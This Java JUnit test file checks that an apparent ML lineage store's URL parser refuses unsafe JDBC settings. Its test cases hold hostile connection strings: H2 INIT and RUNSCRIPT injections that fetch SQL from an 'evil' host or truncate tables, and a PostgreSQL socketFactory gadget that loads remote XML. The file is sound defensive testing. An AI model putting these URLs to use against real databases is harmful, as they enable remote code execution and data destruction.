package org.mlgate.lineage.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.mlgate.core.FailureKind;
import org.mlgate.core.MlgateException;
import org.mlgate.core.UsageException;

/** The lineage URL is data, not code: settings off the allowlist are refused before any driver sees them. */
class StoreUrlTest {
    @TempDir
    Path tmp;

    @ParameterizedTest(name = "{0} refused naming {1}")
    @CsvSource(delimiter = '|', value = {
        "jdbc:h2:file:/tmp/x;INIT=TRUNCATE TABLE edge | INIT",
        "jdbc:h2:file:/tmp/x;init=RUNSCRIPT FROM 'http://evil/x.sql' | init",
        "jdbc:h2:/tmp/x;AUTO_SERVER=TRUE;INIT=CREATE ALIAS X AS 'int x() { return 1; }' | INIT",
        "jdbc:h2:file:/tmp/x;RUNSCRIPT=x | RUNSCRIPT",
        "jdbc:h2:file:/tmp/x;MODE=PostgreSQL | MODE",
        "jdbc:h2:file:/tmp/x;AUTO_SERVER=yes | AUTO_SERVER",
        "jdbc:h2:file:/tmp/x;LOCK_TIMEOUT=1;LOCK_TIMEOUT=2 | LOCK_TIMEOUT",
        "jdbc:h2:file:/tmp/x;; | empty H2 setting",
        "jdbc:h2:mem:x | jdbc:h2:mem:",
        "jdbc:h2:tcp://evil/x | jdbc:h2:tcp:",
        "jdbc:h2:file:zip:/tmp/x.zip!/db | file-system prefix",
        "jdbc:h2:split:/tmp/x | jdbc:h2:split:",
        "jdbc:sqlite:/tmp/x | 'jdbc:sqlite:'",
        "http://example.com/x | 'http:'",
        "jdbc:postgresql://127.0.0.1/test?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
                + "&socketFactoryArg=http://evil/x.xml | socketFactory",
        "jdbc:postgresql://h/test?user=u&%73ocketFactory=x | socketFactory",
        "jdbc:postgresql://h/test?sslfactory=x | sslfactory",
        "jdbc:postgresql://h/test?authenticationPluginClassName=x | authenticationPluginClassName",
        "jdbc:postgresql://h/test?loggerFile=/tmp/owned | loggerFile",
        "jdbc:postgresql://h/test?options=-c%20search_path%3Devil | options",
        "jdbc:postgresql://?service=x | needs a database",
        "jdbc:postgresql://h/test?sslmode=maybe | sslmode",
        "jdbc:postgresql://h/test?connectTimeout=-1 | connectTimeout",
        "jdbc:postgresql://h:99999/test | h:99999",
        "jdbc:postgresql://h/te st | database name",
        "jdbc:postgresql://h/test?user=a&user=b | given twice",
    })
    void refusedNamingTheSetting(String url, String named) {
        assertThatThrownBy(() -> StoreConfig.url(url))
                .isInstanceOf(UsageException.class)
                .hasMessageContaining(named.replace("'", ""))
                .satisfies(e -> assertThat(((MlgateException) e).kind()).isEqualTo(FailureKind.USAGE));
    }

    @Test
    void refusedBeforeAnyFileIsCreated() {
        Path db = tmp.resolve("x");
        String url = "jdbc:h2:file:" + db + ";INIT=CREATE TABLE pwned(x INT)";
        assertThatThrownBy(() -> LineageStore.open(StoreConfig.url(url))).isInstanceOf(UsageException.class);
        assertThatThrownBy(() -> LineageStore.open(new StoreConfig(url, "sa", "", null)))
                .isInstanceOf(UsageException.class);
        assertThat(tmp.resolve("x.mv.db")).doesNotExist();
    }

    @Test
    void passwordsAreNotEchoed() {
        assertThatThrownBy(() -> StoreConfig.url("jdbc:postgresql://h/test?password=s3cret%3B"))
                .hasMessageContaining("password").hasMessageNotContaining("s3cret");
    }

    @Test
    void acceptedUrlsAreRebuiltFromCheckedParts() {
        Path base = tmp.resolve("store").resolve("lineage");
        assertThat(StoreConfig.url(base.toString()).jdbcUrl()).isEqualTo("jdbc:h2:file:" + base);
        assertThat(StoreConfig.url(base + ".mv.db").jdbcUrl()).isEqualTo("jdbc:h2:file:" + base);
        assertThat(StoreConfig.url("jdbc:h2:" + base + ";auto_server=TRUE;LOCK_TIMEOUT=5000").jdbcUrl())
                .isEqualTo("jdbc:h2:file:" + base + ";AUTO_SERVER=TRUE;LOCK_TIMEOUT=5000");
        assertThat(StoreConfig.url("jdbc:h2:file:~/lineage").jdbcUrl())
                .isEqualTo("jdbc:h2:file:" + Path.of(System.getProperty("user.home"), "lineage"));
        assertThat(StoreConfig.url("jdbc:postgresql://127.0.0.1:5432/test?user=postgres&sslmode=disable").jdbcUrl())
                .isEqualTo("jdbc:postgresql://127.0.0.1:5432/test?user=postgres&sslmode=disable");
        assertThat(StoreConfig.url("jdbc:postgresql://[::1]:5432,db2/test?ApplicationName=ml%20gate").jdbcUrl())
                .isEqualTo("jdbc:postgresql://[::1]:5432,db2/test?ApplicationName=ml+gate");
        assertThat(StoreConfig.url("jdbc:postgresql:test").jdbcUrl()).isEqualTo("jdbc:postgresql://localhost:5432/test");
        assertThat(StoreConfig.url(base.toString()).user()).isEqualTo("sa");
    }

    @Test
    void anAcceptedH2PathOpensAStore() throws Exception {
        Path base = tmp.resolve("opened").resolve("lineage");
        try (LineageStore store = LineageStore.open(StoreConfig.url(base.toString()))) {
            assertThat(store.graph(null).nodes()).isEmpty();
        }
        assertThat(Files.exists(Path.of(base + ".mv.db"))).isTrue();
    }
}
